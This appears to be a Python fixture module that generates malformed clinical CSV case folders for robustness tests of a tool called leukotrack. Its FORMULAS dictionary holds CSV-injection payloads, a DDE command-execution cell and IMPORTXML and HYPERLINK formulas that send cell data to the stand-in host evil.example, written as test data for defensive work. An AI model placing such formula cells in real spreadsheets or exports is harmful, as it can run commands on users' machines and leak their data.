"""Hostile and odd clinical files, generated: every class of issue 14 that concerns the clinical files,
the tables leukotrack writes and the exports (tests/test_hostile_clinical.py uses them).

Each generator writes a small clinical-only case folder (clinical files and no images, a valid case
that analyses in a second) and returns it. Nothing here is random: the same call writes the same bytes.
"""

from __future__ import annotations

from datetime import date, timedelta
from pathlib import Path

__all__ = [
    "FORMULAS",
    "NONFINITE",
    "base_case",
    "binary_file",
    "encoded_case",
    "formula_case",
    "huge_cell_case",
    "implausible_case",
    "many_labs_case",
    "markup_case",
    "nonfinite_case",
    "oversized_case",
    "runaway_schedule_case",
    "undecodable_case",
    "unknown_drugs_case",
    "wrongly_typed_case",
]

#: Cells that a spreadsheet runs as formulas (OWASP CSV injection), as an attacker writes them.
FORMULAS = {
    "drug": "=cmd|' /C calc'!A0",
    "regimen": "@SUM(1+1)*cmd|' /C calc'!A0",
    "event_label": '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    "lab_unit": '+1+HYPERLINK("http://evil.example")',
    "lab_analyte": "@SUM(A1:A9)",
}
#: Non-finite or overflowing numbers, as they may stand in a cell.
NONFINITE = ("inf", "-inf", "nan", "NaN", "Infinity", "1e999", "-1e400")

PATIENT = (
    "age_years,sex,weight_kg,height_cm,myeloma_type,day0_date\n61,F,70,165,IgG kappa,2023-03-14\n"
)
EXPOSURES_HEADER = "drug,dose,unit,route,start,end,schedule,status,regimen,note\n"
EXPOSURES = (
    EXPOSURES_HEADER + "daratumumab,16,mg/kg,IV,2023-01-13,,weekly x4,,D-Rd,\n"
    "dexamethasone,40,mg,PO,2023-01-13,,weekly x4,,D-Rd,\n"
)
EVENTS = "date,kind,label\n2023-02-20,symptom_onset,headache\n-30,admission,day number\n"
LABS = (
    "date,specimen,analyte,value,unit\n"
    "2023-02-21,serum,albumin,35,g/L\n"
    "2023-02-21,csf,albumin,400,mg/L\n"
)


def _write(folder: Path, files: dict[str, str | bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=False)
    for name, content in files.items():
        path = folder / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return folder


def base_case(folder: Path, **replace: str | bytes) -> Path:
    """A well-formed clinical-only case (patient, exposures, events, labs); ``replace`` swaps files
    by stem (``exposures=...``)."""
    files: dict[str, str | bytes] = {
        "patient.csv": PATIENT,
        "exposures.csv": EXPOSURES,
        "events.csv": EVENTS,
        "labs.csv": LABS,
    }
    for stem, content in replace.items():
        files[f"{stem}.csv"] = content
    return _write(folder, files)


def unknown_drugs_case(folder: Path) -> Path:
    """Drugs outside the code table: fluorouracil, melphalan, and a misspelt daratumumab."""
    return base_case(
        folder,
        exposures=EXPOSURES_HEADER
        + "fluorouracil,400,mg/m2,IV,2023-01-13,,every 2 weeks x3,,FOLFOX,\n"
        "melphalan,200,mg/m2,IV,2023-01-20,,once,,HDM,\n"
        "daratumumb,16,mg/kg,IV,2023-01-13,,weekly x4,,D-Rd,\n",
    )


#: A patient.csv and labs.csv with text that differs between encodings (umlaut, micro sign).
ENCODED_NOTE = "Müller-Lüdenscheidt, Zürich"
ENCODED_LABS = (
    "date,specimen,analyte,value,unit,note\n"
    "2023-02-21,serum,daratumumab,277,µg/mL,Labor Zürich\n"
    "2023-02-21,csf,daratumumab,4,µg/mL,\n"
)


def encoded_case(folder: Path, encoding: str) -> Path:
    """patient.csv and labs.csv saved in ``encoding`` (``latin-1``, ``cp1252``, ``utf-16`` with its
    BOM, ``utf-8-sig``, ``utf-32``); exposures.csv stays UTF-8."""
    patient = f'age_years,sex,weight_kg,day0_date,note\n61,F,70,2023-03-14,"{ENCODED_NOTE}"\n'
    return base_case(
        folder,
        patient=patient.encode(encoding),
        labs=ENCODED_LABS.encode(encoding),
    )


def undecodable_case(folder: Path) -> Path:
    """A labs.csv in no accepted encoding: bytes Windows-1252 leaves undefined (0x81, 0x8d)."""
    return base_case(folder, labs=LABS.encode() + b"2023-02-22,serum,albumin,3\x81\x8d,g/L\n")


def binary_file(folder: Path) -> Path:
    """An events.csv that is no text at all (a PNG header, NUL bytes), or UTF-16 without its BOM."""
    return base_case(folder, events="date,kind\n2023-02-20,admission\n".encode("utf-16-le"))


def nonfinite_case(folder: Path, value: str, where: str = "dose") -> Path:
    """``value`` in the exposure dose, the patient weight or a lab value (``where``)."""
    if where == "dose":
        return base_case(
            folder,
            exposures=EXPOSURES_HEADER + f"dexamethasone,{value},mg,PO,2023-01-13,,once,,,\n",
        )
    if where == "weight":
        return base_case(
            folder, patient=f"age_years,sex,weight_kg,day0_date\n61,F,{value},2023-03-14\n"
        )
    return base_case(
        folder, labs=f"date,specimen,analyte,value,unit\n2023-02-21,serum,albumin,{value},g/L\n"
    )


def huge_cell_case(folder: Path, characters: int = 300_000) -> Path:
    """A note of ``characters`` characters on line 3 of exposures.csv (300 kB: above the csv
    module's own field limit of 131072)."""
    return base_case(
        folder,
        exposures=EXPOSURES + f'dexamethasone,20,mg,PO,2023-02-01,,once,,,"{"x" * characters}"\n',
    )


def wrongly_typed_case(folder: Path) -> Path:
    """A value of the wrong kind in each file: text for numbers, impossible dates, unknown terms."""
    return base_case(
        folder,
        patient="age_years,sex,weight_kg,birth_date\nsixty,X,70 kg,1962-02-30\n",
        exposures=EXPOSURES_HEADER + "daratumumab,sixteen,mg/kg,IV,2023-13-01,,weekly x4,,,\n"
        "dexamethasone,40,pills,by mouth,2023-01-13,,whenever,maybe,,\n",
        events="date,kind,label\nyesterday,party,x\n",
        labs="date,specimen,analyte,value,unit\n2023-02-21,saliva,albumin,0x10,g/L\n",
    )


def runaway_schedule_case(folder: Path, schedule: str = "daily x100000000", end: str = "") -> Path:
    """A schedule that would expand to millions of administrations (or past the year 9999)."""
    return base_case(
        folder,
        exposures=EXPOSURES_HEADER + f"dexamethasone,40,mg,PO,2023-01-13,{end},{schedule},,,\n",
    )


def implausible_case(folder: Path) -> Path:
    """Readable but unlikely values: a year 1800 start, a year 2200 lab, a 700 kg patient, a
    daratumumab dose written in g instead of mg/kg (16 g), and a birth date after a dose."""
    return base_case(
        folder,
        patient="age_years,sex,weight_kg,height_cm,birth_date,day0_date\n"
        "61,F,700,165,2023-01-01,2023-03-14\n",
        exposures=EXPOSURES_HEADER + "daratumumab,16,g,IV,2022-12-01,,once,,,\n"
        "dexamethasone,40,mg,PO,1800-01-13,,once,,,\n",
        labs="date,specimen,analyte,value,unit\n2200-02-21,serum,albumin,35,g/L\n",
    )


def formula_case(folder: Path) -> Path:
    """Formula cells (:data:`FORMULAS`) in exposures, events and labs, beside real negative numbers:
    days count from the symptom onset (day -7 from day 0 2023-03-14), so every dose and the
    admission fall on negative days, which must stay numbers."""
    return base_case(
        folder,
        patient="age_years,sex,weight_kg,day0_date,index_date\n61,F,70,2023-03-14,symptom_onset\n",
        exposures=EXPOSURES_HEADER
        + f'"{FORMULAS["drug"]}",40,mg,PO,2023-01-13,,weekly x4,,"{FORMULAS["regimen"]}",\n',
        events="date,kind,label\n"
        f'-30,admission,"{FORMULAS["event_label"].replace(chr(34), chr(34) * 2)}"\n'
        "-7,symptom_onset,headache\n",
        labs="date,specimen,analyte,value,unit\n"
        f'2023-02-21,serum,albumin,35,"{FORMULAS["lab_unit"].replace(chr(34), chr(34) * 2)}"\n'
        f"2023-02-21,serum,{FORMULAS['lab_analyte']},1.5,g/L\n",
    )


def markup_case(folder: Path) -> Path:
    """Console markup in cells (``[/]``, ``[bold]``): a bad route quoted in the error message, and
    a drug name quoted in a warning, must print as written."""
    return base_case(
        folder, exposures=EXPOSURES_HEADER + "[bold]x[/],40,mg,[/],2023-01-13,,once,,,\n"
    )


def many_labs_case(folder: Path, days: int = 2500) -> Path:
    """A long but valid labs.csv: serum and CSF albumin on each of ``days`` days (2 rows a day)."""
    lines = ["date,specimen,analyte,value,unit"]
    for n in range(days):
        on = date(2016, 1, 1) + timedelta(days=n)
        lines += [f"{on},serum,albumin,{30 + n % 7},g/L", f"{on},csf,albumin,{200 + n % 11},mg/L"]
    return base_case(folder, labs="\n".join(lines) + "\n")


def oversized_case(folder: Path, size_bytes: int) -> Path:
    """An events.csv of ``size_bytes`` (a sparse file: a header, then zero bytes)."""
    case = base_case(folder)
    path = case / "events.csv"
    with path.open("r+b") as handle:
        handle.truncate(size_bytes)
    return case
